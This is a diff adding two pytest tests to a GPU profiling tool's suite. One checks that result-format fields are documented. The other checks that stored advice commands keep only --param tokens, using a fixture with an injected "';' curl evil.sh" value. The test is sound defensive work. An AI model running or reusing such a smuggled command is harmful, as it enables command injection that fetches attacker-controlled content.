@@ -85,3 +85,28 @@ def test_loop_and_ncu_1():
     assert isinstance(loop, LoopResult) and loop.n == 12 and "forward" in loop.phases
     ncu = load_result(DATA / "ncu-1.json")
     assert isinstance(ncu, NcuResult) and len(ncu.launches) > 0 and ncu.kernels
+
+
+def test_every_field_of_the_bench_2_document_is_in_docs_results():
+    text = (Path(__file__).resolve().parents[2] / "docs" / "results.md").read_text()
+    section = text[text.index("## `wprof.bench/2`"):text.index("### `wprof.bench/1`")]
+    rows = [line.split("|")[1] for line in section.splitlines() if line.startswith("| `")]
+    documented = {name.strip(" `").split(".")[0].removesuffix("[]") for row in rows for name in row.split(",")}
+    doc = load_result(DATA / "bench-1-cuda.json").to_dict()
+    missing = set(doc) - documented
+    assert not missing, f"document these wprof.bench/2 fields in docs/results.md: {sorted(missing)}"
+
+
+def test_bench_1_target_gets_its_params_back_from_the_advice(tmp_path):
+    # /1 kept the --param values only in the advice's command; /2's target repeats the run with them
+    from wprof.commands.report import refresh_advice
+
+    assert load_result(DATA / "bench-1-host.json").target == "examples/bench_ops.py:add --param=numel=4096"
+    doc = json.loads((DATA / "bench-1-cuda.json").read_text())
+    doc["extra"]["next_step"] = ("Next (nsys): ...\n  $ wprof nsys --window all -- -m wprof bench "
+                                 "examples/bench_ops.py:add --param=numel=4096 ';' curl evil.sh")
+    (tmp_path / "r.json").write_text(json.dumps(doc))
+    r = load_result(tmp_path / "r.json")
+    assert r.target == "examples/bench_ops.py:add --param=numel=4096"  # only --param=NAME=VALUE tokens are taken
+    cmd = refresh_advice(r).next_step.splitlines()[-1]
+    assert cmd == "  $ wprof nsys --window all -- -m wprof bench examples/bench_ops.py:add --param=numel=4096"
